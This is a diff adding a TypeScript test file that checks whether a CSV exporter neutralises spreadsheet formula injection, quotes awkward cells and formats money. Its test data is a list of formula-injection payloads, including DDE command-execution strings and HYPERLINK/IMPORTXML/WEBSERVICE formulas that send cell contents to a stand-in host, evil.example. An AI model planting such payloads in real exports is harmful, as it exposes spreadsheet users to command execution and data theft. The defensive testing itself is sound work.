@@ -1,0 +1,102 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvFile } from '../../shared/wire/csv.ts';
+
+const cellOf = (text: string): string =>
+  csvFile(['a'], [[text]])
+    .split('\r\n')
+    .slice(1, -1)
+    .join('\r\n');
+
+/** What spreadsheets run, or have run, when a cell begins with it. */
+const formulas = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  '=IMPORTXML("https://evil.example","//a")',
+  '=WEBSERVICE("https://evil.example")',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
+  '\ufeff=1+1',
+];
+
+describe('E23: a cell', () => {
+  it.each(formulas)('that begins like a formula is text: %j', (formula) => {
+    expect(cellOf(formula).replace(/^"/, '')).toMatch(/^'/);
+  });
+
+  it.each(['Field Guide', '10 - 3', 'a=b', 'ada@example.com', '', 'Ünïcode', "'quoted'"])(
+    'that is text stays as it is: %j',
+    (text) => {
+      expect(cellOf(text)).toBe(text);
+    },
+  );
+
+  it('with quotes, commas, semicolons or line breaks is quoted, and comes back whole', () => {
+    expect(cellOf('say "hi", then; go\r\non')).toBe('"say ""hi"", then; go\r\non"');
+  });
+
+  it('of money is a decimal number with the digits of its currency, negative ones too', () => {
+    const money = (amount: number, currency: string) => ({ amount, currency });
+    const rows = [
+      [
+        money(123_456, 'EUR'),
+        money(5, 'EUR'),
+        money(-5, 'EUR'),
+        money(-123_456, 'KWD'),
+        money(1_999, 'JPY'),
+        money(0, 'USD'),
+      ],
+    ];
+    expect(csvFile([], rows)).toContain('1234.56,0.05,-0.05,-123.456,1999,0.00\r\n');
+  });
+
+  it('of nothing is empty, of a number its digits', () => {
+    expect(csvFile([], [[null, 7, 0.5]])).toContain(',7,0.5\r\n');
+  });
+});
+
+it('a file reads back as what was written, but for the apostrophes', () => {
+  const row = fc.tuple(fc.string(), fc.string());
+  fc.assert(
+    fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
+      const read = parse(csvFile(['a', 'b'], rows)).slice(1);
+      expect(read).toHaveLength(rows.length);
+      for (const [index, cells] of rows.entries())
+        for (const [at, cell] of cells.entries()) expect([cell, `'${cell}`]).toContain(read[index]?.[at]);
+    }),
+  );
+});
+
+/** RFC 4180, written independently. */
+function parse(text: string): string[][] {
+  const rows: string[][] = [[]];
+  let cell = '';
+  let isQuoted = false;
+  const body = text.replace(/^\ufeff/, '');
+  for (let at = 0; at < body.length; at += 1) {
+    const letter = body[at] as string;
+    if (isQuoted && letter === '"' && body[at + 1] === '"') [cell, at] = [`${cell}"`, at + 1];
+    else if (letter === '"') isQuoted = !isQuoted;
+    else if (!isQuoted && letter === ',') [cell] = ['', rows.at(-1)?.push(cell)];
+    else if (!isQuoted && letter === '\r' && body[at + 1] === '\n') {
+      rows.at(-1)?.push(cell);
+      rows.push([]);
+      [cell, at] = ['', at + 1];
+    } else cell += letter;
+  }
+  return rows.slice(0, -1);
+}
